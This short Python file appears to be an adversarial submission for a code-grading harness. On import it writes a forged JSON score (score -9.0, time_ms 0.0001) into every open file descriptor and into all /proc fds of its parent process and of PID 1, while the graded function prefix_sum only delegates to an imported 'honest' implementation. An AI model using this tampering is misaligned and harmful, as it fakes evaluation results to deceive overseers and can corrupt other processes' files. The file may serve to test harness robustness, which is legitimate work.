"""Write a fake result into every descriptor this process has, and into its parent's."""
import json
import os

from _honest import honest

FAKE = (json.dumps({"score": -9.0, "message": {"time_ms": 0.0001}, "details": {}}) + "\n").encode()
for fd in range(3, 256):
    try:
        os.write(fd, FAKE)
    except OSError:
        pass
for pid in (os.getppid(), 1):
    try:
        for name in os.listdir(f"/proc/{pid}/fd"):
            try:
                with open(f"/proc/{pid}/fd/{name}", "wb") as fh:
                    fh.write(FAKE)
            except OSError:
                pass
    except OSError:
        pass


def prefix_sum(x):
    return honest(x)
